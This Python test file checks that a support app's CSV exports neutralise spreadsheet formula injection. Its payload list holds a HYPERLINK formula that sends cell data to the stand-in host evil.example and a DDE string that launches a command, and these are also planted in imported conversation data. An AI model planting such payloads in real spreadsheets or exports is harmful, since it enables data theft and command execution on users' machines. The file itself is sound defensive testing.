"""The web's CSV downloads (library export, every report table) carry no runnable
spreadsheet formula, even when the lowest role planted one; tests/test_csv_injection.py
covers the helper and the CLI writers."""

from __future__ import annotations

import csv
import io
import json

import pytest

from rubrics import reviews
from suggest import drafts, feedback
from suggest.conversations import import_conversations

TABLES = ("responses", "quality", "categories", "quadrant", "drafting", "usage")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Refund")'
PLANTED = (HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)", " -2+3", "\uff1dHYPERLINK(1)",
           "\t=1")


def runs_as_formula(cell: str) -> bool:
    """Independent of textio: not a number and starting (after spaces) with = + - @ or a
    full-width form, or with a tab or carriage return."""
    try:
        float(cell)
        return False
    except ValueError:
        first = cell.lstrip()[:1]
        return cell[:1] in ("\t", "\r") or (first != "" and first in "=+-@\uff1d\uff0b\uff0d\uff20")


def cells(response) -> list[str]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture
def planted(as_user, db, tmp_path):
    """Formulas planted by an agent (proposal titles, bodies, a question) and by imported
    data (agent and customer names, channel), with usage, a review and a drafting session."""
    ana, token = as_user("ana")
    ids = []
    for i, payload in enumerate(PLANTED):
        response = ana.post("/api/saved-replies/proposals", headers={"X-CSRFToken": token},
                            json={"title": payload.strip() or f"t{i}", "body": payload + " x",
                                  "question": payload})
        assert response.status_code == 201, response.get_data()
        ids.append(response.get_json()["id"])
        feedback.record(db, ids[-1], "shown")
    path = tmp_path / "planted.jsonl"
    path.write_text("".join(json.dumps({
        "conversation_id": "C9", "message_id": m, "role": role, "author": author,
        "channel": "@SUM(A1)", "created_at": at, "body": body, "subject": "-1+1"}) + "\n"
        for m, role, author, at, body in (
            ("m1", "customer", HYPERLINK, "2026-09-04T09:00:00Z", "Refund?"),
            ("m2", "agent", "+Agent Evil", "2026-09-04T09:20:00Z", "Done."))), "utf-8")
    import_conversations(db, path)
    reviews.add_review(db, reviews.resolve_target(db, "C9", "m2"), "Rui Reviewer", {
        "accurate": 4, "complete": 3, "clear": 2, "empathy": "na", "personalised": 3,
        "honest": 4, "next_steps": 1, "tone": 4})
    row = drafts.start(db, "=Agent()", "@team", "refund?")
    drafts.finish(db, row["id"], "copied", "Hi", "saved", ids[0], "Hi there")
    db["drafts"].update(row["id"], {"finished_at": "2026-09-04T10:00:00+00:00"})
    return ids


def test_library_csv_export_is_neutralised(as_user, planted):
    lead, _ = as_user("lee")
    found = cells(lead.get("/library/export?format=csv"))
    assert not [c for c in found if runs_as_formula(c)]
    assert "'" + HYPERLINK in found and "'\t=1 x" in found


@pytest.mark.parametrize("name", TABLES)
def test_every_report_table_csv_is_neutralised(as_user, planted, name):
    admin, _ = as_user("root")  # every team's rows
    found = cells(admin.get(f"/reports/tables/{name}?from=2026-08-01&to=2026-09-30&format=csv"))
    assert not [c for c in found if runs_as_formula(c)], name
    planted_here = {"responses": "'+Agent Evil", "quadrant": "'+Agent Evil",
                    "drafting": "'=Agent()", "usage": "'" + HYPERLINK}
    if name in planted_here:
        assert planted_here[name] in found, (name, found)
